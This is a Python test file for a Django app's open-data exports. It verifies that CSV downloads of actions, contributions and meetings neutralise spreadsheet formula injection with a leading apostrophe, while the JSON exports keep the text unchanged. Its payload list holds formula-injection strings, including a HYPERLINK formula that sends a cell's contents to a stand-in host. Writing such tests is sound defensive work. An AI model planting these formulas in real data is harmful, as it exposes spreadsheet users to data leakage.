"""Formula injection in the public CSV files: text that a spreadsheet would run as a formula
(it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) comes out of every
public CSV (the actions, the contributions and the meetings, each in the standard and in the
Excel variant) with a leading apostrophe, in every text column, one value or several, whoever
wrote it (a citizen's contribution, the redazione's plan and meetings). The JSON files keep the
text exactly as it was written.

The neutralisation happens in one place, the writer of every CSV (``patto.core.spreadsheets``),
so no column can be forgotten; these tests read the files as a visitor downloads them."""

import csv
import io
import json

import pytest
from django.urls import reverse

from incontri.opendata import MEETINGS
from matrice.opendata import ACTIONS
from patto.models import VersionStatus
from tavoli.opendata import CONTRIBUTIONS
from tests.factories import ContributionFactory, MeetingFactory
from tests.versions import build_version

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "hyperlink": '=HYPERLINK("https://example.com/?dati="&A1;"Clicca qui")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
# Every text column of each file that the test fills with the payload.
FILES = {
    "actions": (
        ACTIONS,
        lambda format: reverse(f"matrice:actions_{format}", args=["piano", 1]),
        (
            "title",
            "policy",
            "action_area",
            "tools",
            "lead_body",
            "partners",
            "indicators",
            "description",
        ),
    ),
    "contributions": (
        CONTRIBUTIONS,
        lambda format: reverse(f"tavoli:opendata_{format}", args=["piano"]),
        ("title", "text", "body"),
    ),
    "meetings": (
        MEETINGS,
        lambda format: reverse(f"incontri:opendata_{format}"),
        ("title", "date_note", "venue", "address"),
    ),
}


@pytest.fixture(params=PAYLOADS.values(), ids=PAYLOADS.keys())
def payload(request):
    return request.param


@pytest.fixture
def files(db, payload):
    """A published version with one action, a meeting and a contribution (a citizen's) whose
    text columns all start like a formula."""
    content = build_version(
        slug="piano",
        actions=1,
        tools=[payload],
        policy={"title": payload},
        area={"title": payload},
        action=lambda i, code: {
            "title": payload,
            "lead_body": payload,
            "partners": payload,
            "indicators": payload,
            "description": payload,
        },
        status=VersionStatus.PUBLISHED,
    )
    programme = content.programme
    MeetingFactory(
        programme=programme, title=payload, date_note=payload, venue=payload, address=payload
    )
    ContributionFactory(programme=programme, title=payload, text=payload, body_name=payload)
    return content


def read_csv(response, format: str) -> list[dict]:
    text = response.content.decode("utf-8-sig" if format == "excel" else "utf-8")
    delimiter = ";" if format == "excel" else ","
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("format", ["csv", "excel"])
def test_every_text_cell_that_starts_like_a_formula_gets_an_apostrophe(
    client, files, payload, name, format
):
    _, url, columns = FILES[name]
    response = client.get(url(format))
    assert response.status_code == 200
    rows = read_csv(response, format)
    assert len(rows) == 1
    for column in columns:
        assert rows[0][column] == "'" + payload, column
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0].values())


@pytest.mark.parametrize("name", FILES)
def test_the_json_keeps_the_text_as_written(client, files, payload, name):
    dataset, url, columns = FILES[name]
    records = json.loads(client.get(url("json")).content)[dataset.records_key]
    assert len(records) == 1
    many = {column.name for column in dataset.columns if column.many}
    for column in columns:
        assert records[0][column] == ([payload] if column in many else payload), column
